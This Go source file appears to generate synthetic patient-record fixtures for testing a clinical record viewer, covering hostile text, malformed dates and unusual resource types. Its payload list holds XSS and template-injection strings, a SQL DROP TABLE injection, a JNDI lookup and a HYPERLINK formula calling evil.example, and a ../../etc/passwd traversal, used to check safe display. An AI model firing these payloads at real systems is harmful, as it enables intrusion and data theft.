package story

import "strings"

// livesOfWords are about hostile text, odd dates, and things that no section knows.
func livesOfWords(c calendar) []Person {
	return []Person{hostileText(c), oddDates(c), everythingElse(c)}
}

// payloads are texts that must come out on the page as they went in, and do nothing.
var payloads = []string{
	`<script>alert('XSS')</script>`, `"><img src=x onerror=alert(1)>`, `javascript:alert(1)`, `{{constructor.constructor('alert(1)')()}}`, `</textarea><svg/onload=alert(1)>`,
	"!@£$%^&*()_+-={}[]:\"\\|;'<>?,./~", `=HYPERLINK("http://evil.example","click")`, "line one\nline two\r\n\tline three", "right\u202Eto left\u202C", "zero\u200Bwidth", "e\u0301\u0302\u0303\u0304",
	"‘; DROP TABLE audit; --", "%s%n%x", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "0 < K+ < 5 & rising",
}

func hostileText(c calendar) Person {
	who := someone("9993235148", "Mr", "Robert", "<b>Tables</b>", c.born(35, "01-01"), "male")
	who.Address.Lines = []string{`1 "Quote" & <i>Sons</i>`}
	h := Holding{ODS: practiceODS(28), Registered: "2015"}
	hospital := Holding{ODS: bth}
	for i, text := range payloads {
		day := c.day(-10 - i)
		h.Allergies = append(
			h.Allergies,
			Allergy{
				Head: Head{Recorded: day, RecordedBy: by("gp1"), Notes: []string{text}}, Agent: Words(text), Category: []string{"medication"},
				Status: "active",
			},
		)
		m := repeat("Paracetamol 500mg tablets", text, day, day)
		m.Notes = []string{text}
		h.Medicines = append(h.Medicines, m)
		h.Problems = append(h.Problems, problem(named(hypertension, text), day, "major"))
		h.Observations = append(
			h.Observations, Observation{Head: on(day, by("gp1")), What: SNOMED("37331000000100", "Comment note"), When: day, Comment: text},
		)
		h.Consultations = append(h.Consultations, note("x"+string(rune('a'+i)), text, c.at(-10-i, "10:00"), "gp1", text, text, text))
		hospital.Flags = append(hospital.Flags, flagOf(Concept{}, "OTH", text, day, text))
		hospital.Documents = append(hospital.Documents, letter("p"+string(rune('a'+i)), text, text, day, by("nair"), text))
	}
	long := strings.Repeat("A very long comment that must be shown to its last word. ", 70) + "END"
	h.Observations = append(
		h.Observations, Observation{Head: on(c.day(-5), by("gp1")), What: SNOMED("37331000000100", "Comment note"), When: c.day(-5), Comment: long},
	)
	return Person{
		Demographics: who, Practice: practiceODS(28), Story: "hostile and awkward text in every field: nothing runs, nothing is lost",
		Holdings: []Holding{h, hospital},
	}
}

func oddDates(c calendar) Person {
	h := Holding{ODS: practiceODS(6), Registered: "2010"}
	for _, date := range []string{"2014", "2014-06", "2014-06-03", "2014-06-03T10:05:00+01:00", "2014-06-03T00:00:00+01:00", "2014-12-03T00:00:00+00:00", "2014-06-03T10:05:00Z", "2014-06-03T10:05:00", "2014-06-03T10:05:00.123+01:00", "19", "2024-02-30", "", c.day(40), "1799-01-01", "2014-06-03T10:05:00+14:00"} {
		p := problem(osteoarthritis, date, "minor")
		p.Notes = []string{"Onset as sent: " + date}
		h.Problems = append(h.Problems, p)
		h.Observations = append(
			h.Observations,
			Observation{Head: on(date, by("gp1")), What: bodyWeight, When: date, Value: Value{Quantity: Quantity{Value: "70.0", Unit: "kg"}}},
		)
	}
	hospital := Holding{ODS: bth, Problems: []Problem{
		{
			Head: on("2020-01-01", by("nair")), What: asthma, Status: "active", Confidence: "confirmed", OnsetWords: "age 4, or before school",
		}, {Head: Head{}, What: migraine, Confidence: "unconfirmed"},
	}}
	return Person{
		Demographics: someone("9997986466", "Ms", "Freya", "Evans", c.born(48, "02-29"), "female"), Practice: practiceODS(6),
		Story: "dates of every shape: year only, month only, no zone, midnight, impossible, absent, in the future", Holdings: []Holding{h, hospital},
	}
}

func everythingElse(c calendar) Person {
	h := plainSurgery(c, practiceODS(22))
	h.Questionnaires = []Questionnaire{
		{
			Title: "Falls questionnaire", Status: "completed", When: c.at(-50, "10:00"), Author: by("nurse1"),
			Groups: []Question{{LinkID: "1", What: "Falls in the last year?", Answer: []Value{{Text: "Two"}}}},
		},
	}
	h.Observations = append(h.Observations,
		Observation{
			Head: on(c.day(-50), by("gp1")),
			What: Concept{
				Text: "Old entry: ?TIA", Codes: []Code{{System: SystemSNOMED, Value: "196411000000103", Display: "Transfer-degraded record entry"}},
			},
			When: c.day(-50),
		},
		Observation{
			Head: on(c.day(-51), by("gp1")), What: SNOMED("315612005", "Target systolic blood pressure"), When: c.day(-51),
			Value: Value{Quantity: Quantity{Value: "140", Unit: "mmHg", Comparator: "<"}},
		},
		Observation{
			Head: Head{Recorded: c.day(-52), RecordedBy: by("gp1"), Encounter: "never-sent"}, What: SNOMED("160573003", "Alcohol intake"),
			When: c.day(-52), Value: Value{Range: Range{Low: Quantity{Value: "4"}, High: Quantity{Value: "10"}}},
		},
		Observation{
			Head: on(c.day(-53), by("nurse1")), Category: StatementCategory, What: SNOMED("171279008", "Immunisation due"), When: c.day(-53),
			Comment: "Invited for shingles vaccine",
		})
	return Person{
		Demographics: someone("9995234661", "Mr", "Thomas", "Quinn", c.born(77, "12-24"), "male"), Practice: practiceODS(22),
		Story: "things no section knows: diet orders, risk assessments, messages, a questionnaire from a practice, family and social history, stroke",
		Holdings: []Holding{
			h,
			everythingElseAtBowland(c),
		},
	}
}

func everythingElseAtBowland(c calendar) Holding {
	other := func(kind, members string) Other { return Other{Type: kind, Members: members} }
	return Holding{
		ODS: bth, Problems: []Problem{diagnosis("cva", stroke, c.month(-4), by("nair"))},
		Others: []Other{
			other(
				"NutritionOrder",
				`"status":"active","intent":"order","dateTime":"`+c.day(-100)+`","oralDiet":{"type":[{"text":"Texture-modified diet, level 4"}]}`,
			),
			other(
				"RiskAssessment",
				`"status":"final","code":{"text":"Waterlow pressure ulcer risk"},"occurrenceDateTime":"`+c.day(-100)+`","prediction":[{"outcome":{"text":"High risk: 18"}}]`,
			),
			other(
				"Communication",
				`"status":"completed","sent":"`+c.at(-99, "15:00")+`","payload":[{"contentString":"Daughter told of transfer."}]`,
			), other(
				"ClinicalImpression",
				`"status":"completed","date":"`+c.day(-101)+`","summary":"Left middle cerebral artery territory infarct."`,
			),
		},
		FamilyHistory: []FamilyHistory{
			{
				Relative: Coded("http://terminology.hl7.org/CodeSystem/v3-RoleCode", "FTH", "father"), Status: "completed", Died: true,
				When: c.day(-101), Conditions: []FamilyCondition{{What: stroke, OnsetWords: "aged 61"}},
			},
		},
		Observations: []Observation{
			{Category: "social-history", What: smoking, When: c.day(-101), Value: Value{Concept: SNOMED("8517006", "Ex-smoker")}}, {
				Category: "social-history", What: alcohol, When: c.day(-101),
				Value: Value{Quantity: Quantity{Value: "6", Unit: "/wk", Code: "/wk"}},
			},
			{
				Category: "social-history", What: SNOMED("224362002", "Housing type"), When: c.day(-101),
				Value: Value{Text: "Ground floor flat, two steps"},
			}, {
				Category: "social-history", What: SNOMED("14679004", "Occupation"), When: c.day(-101),
				Value: Value{Text: "Retired dry stone waller"},
			},
		},
		Reports: []Report{
			{
				Study: &Study{
					UID: "1.2.826.0.1.3680043.9.7000.9", Accession: "MR99", Description: "MRI head", Started: c.at(-100, "11:00"),
					Modality: Code{System: "http://dicom.nema.org/resources/ontology/DCM", Value: "MR", Display: "Magnetic resonance"},
					Alone:    true,
				},
				Head: Head{ID: "mri"},
			},
		},
	}
}
